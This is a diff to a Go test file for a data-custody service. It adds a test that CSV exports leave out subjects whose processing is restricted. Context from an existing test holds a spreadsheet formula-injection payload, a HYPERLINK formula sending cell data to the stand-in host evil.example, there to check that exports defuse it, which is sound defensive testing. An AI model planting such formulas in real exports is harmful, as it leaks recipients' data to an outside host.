@@ -1,10 +1,14 @@
 package app_test
 
 import (
+	"context"
+	"custodia/internal/audit"
+	"custodia/internal/store"
 	"encoding/csv"
 	"fmt"
 	"strings"
 	"testing"
+	"time"
 
 	"custodia/internal/app"
 	"custodia/internal/testutil"
@@ -148,5 +152,27 @@ func TestExportDefusesFormulas(t *testing.T) {
 	rows, err := csv.NewReader(strings.NewReader(string(dpo.Must(200, "GET", "/v1/exports/"+x["id"].(string)+"/download", nil).Body))).ReadAll()
 	if err != nil || len(rows) != 2 || rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1)` {
 		t.Fatalf("export rows %q, %v", rows, err)
+	}
+}
+
+// TestExportLeavesOutRestricted: a subject whose processing is restricted
+// to other purposes has every field withheld: the export holds no empty
+// row for them.
+func TestExportLeavesOutRestricted(t *testing.T) {
+	s := testutil.MustServe(t, app.Config{})
+	admin := s.Client(t)
+	admin.Must(201, "POST", "/v1/collections", testutil.CustomersSchema)
+	dpo := admin.With(admin.RoleToken("dpo"))
+	dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{"email": "open@example.com", "name": "Open Person"})
+	restricted := dpo.Must(201, "POST", "/v1/collections/customers/records?purpose=support", map[string]any{"email": "held@example.com", "name": "Held Person"}).JSON()
+	if err := s.DB.SetRestriction(context.Background(), store.Restriction{SubjectID: restricted["subject"].(string), Purposes: []string{"legal"},
+		Reason: "accuracy contested", Since: time.Now().UTC(), SetBy: "dpo"}, &audit.Entry{Actor: "test", Action: "subject.restrict"}); err != nil {
+		t.Fatal(err)
+	}
+	s.Access.Invalidate()
+	x := dpo.Must(201, "POST", "/v1/exports", map[string]any{"collection": "customers", "fields": []string{"email", "name"}, "purpose": "support", "reason": "handover"}).JSON()
+	rows, err := csv.NewReader(strings.NewReader(string(dpo.Must(200, "GET", "/v1/exports/"+x["id"].(string)+"/download", nil).Body))).ReadAll()
+	if err != nil || len(rows) != 2 || rows[1][0] != "open@example.com" {
+		t.Fatalf("export rows %q, %v; want the header and the unrestricted person only", rows, err)
 	}
 }
